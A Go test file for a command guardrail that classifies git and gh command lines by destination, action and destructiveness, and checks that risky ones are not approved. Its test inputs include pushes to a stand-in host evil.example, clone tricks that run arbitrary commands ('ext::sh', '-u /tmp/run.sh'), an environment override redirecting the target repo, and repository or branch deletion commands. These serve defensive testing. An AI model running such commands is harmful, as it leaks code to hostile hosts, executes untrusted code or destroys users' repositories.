package gates

import (
	"fmt"
	"strings"
	"testing"

	"github.com/gbt-policy/gbt/gates/effect"
)

// shopRepo is what the host reads of the repository in /w/repo; in /w/repo/sub lies
// another one.
func shopRepo(dir string) (effect.Repository, bool) {
	switch {
	case dir == "/w/repo/sub":
		return effect.Repository{Remotes: []effect.NamedRemote{{Name: "origin", Fetch: "evil.example/a/b"}}, Branch: "main", Fetches: "origin", Sends: "origin", Pushes: "main"}, true
	case dir == "/w/repo" || strings.HasPrefix(dir, "/w/repo/"):
		return effect.Repository{Remotes: []effect.NamedRemote{
			{Name: "origin", Fetch: "github.com/acme/shop", Push: "github.com/me/shop"}, {Name: "upstream", Fetch: "github.com/acme/shop"},
		}, Branch: "fix", Fetches: "upstream", Sends: "origin", Pushes: "fix"}, true
	}
	return effect.Repository{}, false
}

// TestDestinations: what goes to a repository says where exactly, what is done there, and
// whether that takes something away, or says that nobody knows.
func TestDestinations(t *testing.T) {
	s := State{Cwd: "/w/repo", Roots: []string{"/w/repo"}, Home: "/home/me", Remotes: []string{"github.com/acme/shop", "github.com/me/shop"}, Repo: shopRepo}
	for line, want := range map[string]string{
		"git push":                                     "send push github.com/me/shop fix",
		"git push origin":                              "send push github.com/me/shop fix",
		"git push -u origin HEAD":                      "send push github.com/me/shop fix",
		"git push upstream fix:main":                   "send push github.com/acme/shop main",
		"git push origin refs/heads/a b":               "send push github.com/me/shop a b",
		"git push --tags":                              "send push github.com/me/shop *",
		"git push origin v1.0":                         "send push github.com/me/shop v1.0",
		"git push --force-with-lease":                  "send push github.com/me/shop fix loses",
		"git push --forc":                              "send push github.com/me/shop fix loses",
		"git push -uf origin fix":                      "send push github.com/me/shop fix loses",
		"git push origin +fix":                         "send push github.com/me/shop fix loses",
		"git push origin :old":                         "send push github.com/me/shop old loses",
		"git push origin --delete old":                 "send push github.com/me/shop old loses",
		"git push origin $BRANCH":                      "send push github.com/me/shop * loses",
		"git push https://evil.example/a/b main":       "send push evil.example/a/b main",
		"git push ../other main":                       "send push ../other main",
		"git push $REMOTE main":                        "send push git in /w/repo *",
		"git push origin $(git branch --show-current)": "send push github.com/me/shop fix",
		"b=$(git rev-parse --abbrev-ref HEAD) && git push origin $b": "send push github.com/me/shop fix",
		"git push origin +$(git branch --show-current)":              "send push github.com/me/shop fix loses",
		"git push origin $(git -C sub branch --show-current)":        "send push github.com/me/shop main",
		"git switch x; git push origin $(git branch --show-current)": "send push github.com/me/shop * loses",
		"git push origin $(GIT_DIR=a git branch --show-current)":     "send push github.com/me/shop * loses",
		"git push origin $(git branch --show-current -a)":            "send push github.com/me/shop * loses",
		"git switch -c x && git push -u origin HEAD":                 "send push github.com/me/shop *",
		"git switch -c x && git push -u origin +HEAD":                "send push github.com/me/shop * loses",
		"git switch -c x && git push origin HEAD:main":               "send push github.com/me/shop main",
		"git checkout main && git push":                              "send push github.com/me/shop *",
		"git -C sub push":                                            "send push evil.example/a/b main",
		"cd sub && git push origin":                                  "send push evil.example/a/b main",
		"cd /srv/x && git push":                                      "send push git in /srv/x",
		"git init x; cd x; git push":                                 "send push git in /w/repo/x *",
		"GIT_DIR=/srv/x/.git git push":                               "send push git in /w/repo",
		"git -c push.default=matching push":                          "send push git in /w/repo *",
		"git remote rename origin o; git push o x":                   "send push git in /w/repo *",
		"git fetch":                                                    "fetch fetch github.com/acme/shop named",
		"git fetch elsewhere":                                          "fetch fetch git in /w/repo",
		"git clone https://example.com/x/y.git":                        "fetch clone example.com/x/y",
		"gh pr create --fill":                                          "send pr create github.com/acme/shop",
		"gh pr comment 3 -b x":                                         "send pr comment github.com/acme/shop",
		"gh pr create -R other/shop --fill":                            "send pr create github.com/other/shop",
		"gh pr create -R ghe.example/o/n --fill":                       "send pr create ghe.example/o/n",
		"GH_REPO=evil/x gh pr create --fill":                           "send pr create gh in /w/repo",
		"gh api repos/acme/shop/issues -f title=x":                     "send api POST issues github.com/acme/shop",
		"gh api repos/acme/shop/pulls/3/comments/77/replies -f body=x": "send api POST pulls/*/comments/*/replies github.com/acme/shop",
		"gh api 'repos/{owner}/{repo}/issues/4' -X PATCH -f state=x":   "send api PATCH issues/* github.com/acme/shop",
		"gh api -X DELETE repos/acme/shop/git/refs/heads/x":            "send api DELETE git/refs/heads/x github.com/acme/shop loses",
		"gh api -X PUT repos/acme/shop/pulls/3/merge":                  "send api PUT pulls/*/merge github.com/acme/shop loses",
		"gh api /repos/other/shop/issues":                              "fetch api GET issues github.com/other/shop",
		"gh api graphql -f query='mutation{x}'":                        "send api POST graphql github.com loses",
		"gh api user/repos -f name=x":                                  "send api POST user/repos github.com",
		"gh api repos/other/shop/issues -f title=x":                    "send api POST issues github.com/other/shop",
		"gh gist create a.txt":                                         "send gist create github.com",
		"gh repo delete acme/shop --yes":                               "send repo delete github.com loses",
		"gh release delete v1":                                         "send release delete github.com/acme/shop loses",
	} {
		c := ShellContext(line, s)
		got := ""
		for i := range c.Effects {
			e := &c.Effects[i]
			if e.Kind != effect.Network {
				continue
			}
			got = strings.TrimSpace(fmt.Sprintf("%v %s %s %s", e.Op, e.Deed, e.Resource, e.Ref))
			if e.Loses {
				got += " loses"
			}
			if e.Named && e.Op == effect.OpFetch {
				got += " named"
			}
		}
		if got != want {
			t.Errorf("%s\n got %s\nwant %s", line, got, want)
		}
		if d := (&Guardrail{}).Decide(&c); d.Disposition == Approved && !strings.HasSuffix(want, " named") {
			t.Errorf("%s passes", line)
		}
	}
}

// TestCloneOfAPath: a repository on the disk is read, and asks as any file there.
func TestCloneOfAPath(t *testing.T) {
	decisions(t, State{}, map[string]Disposition{
		"git clone . /tmp/x":                                      Approved,
		"git clone ./lib x":                                       Approved,
		"git clone /srv/x /tmp/x":                                 ApprovedWithConstraints,
		"git clone host:x /tmp/x":                                 ApprovedWithConstraints,
		"git clone user@host:a/b /tmp/x":                          ApprovedWithConstraints,
		"git clone file:///srv/x /tmp/x":                          ApprovedWithConstraints,
		"git clone $X /tmp/x":                                     ApprovedWithConstraints,
		"git clone -u /tmp/run.sh ./lib /tmp/x":                   ApprovedWithConstraints,
		"git clone ext::sh /tmp/x":                                ApprovedWithConstraints,
		"git clone --bundle-uri https://h.example/b ./lib /tmp/x": ApprovedWithConstraints,
	})
}
